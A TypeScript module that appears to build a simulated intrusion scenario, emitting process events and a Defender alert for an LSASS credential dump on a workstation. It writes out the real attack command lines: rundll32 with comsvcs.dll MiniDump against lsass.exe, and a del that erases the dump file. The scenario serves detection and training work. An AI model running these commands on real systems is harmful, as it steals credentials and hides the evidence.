import { on } from '../moment';
import { CAST } from './cast';
import { TOOLS } from './encoded-command';
import type { Stage, Told } from './stage';

/** Chapter 4, 15 September 10:24: the memory of lsass.exe is written to a file; svc-backup had logged on to FIN-WS07. */
export function credentials(stage: Stage, shell: Told): void {
  const { system32 } = TOOLS;
  const list = stage.start(
    shell,
    on(15, '10:23:40.1190000'),
    `${system32}tasklist.exe`,
    'tasklist /fi "imagename eq lsass.exe"',
  );
  const dump = stage.start(
    shell,
    on(15, '10:24:31.7750000'),
    `${system32}rundll32.exe`,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\Windows\\Temp\\a.dmp full',
  );
  stage.start(
    shell,
    on(15, '10:31:09.2040000'),
    `${system32}cmd.exe`,
    'cmd.exe /c del /f /q C:\\Windows\\Temp\\a.dmp',
  );
  stage.alert({
    key: 'alert credential dump',
    name: 'Credential memory was read',
    severity: 'High',
    description: 'rundll32.exe wrote the memory of lsass.exe to a file.',
    product: 'Microsoft Defender for Cloud',
    type: 'VM_LsassDump',
    start: list.started,
    end: on(15, '10:24:32'),
    tactics: 'CredentialAccess',
    techniques: ['T1003.001'],
    about: CAST.patientZero.name,
    properties: { 'Command Line': dump.command, 'Target Process': 'lsass.exe' },
    entities: (graph) => {
      const parent = graph.process(shell, shell.command);
      graph.process(dump, dump.command, parent);
    },
  });
}
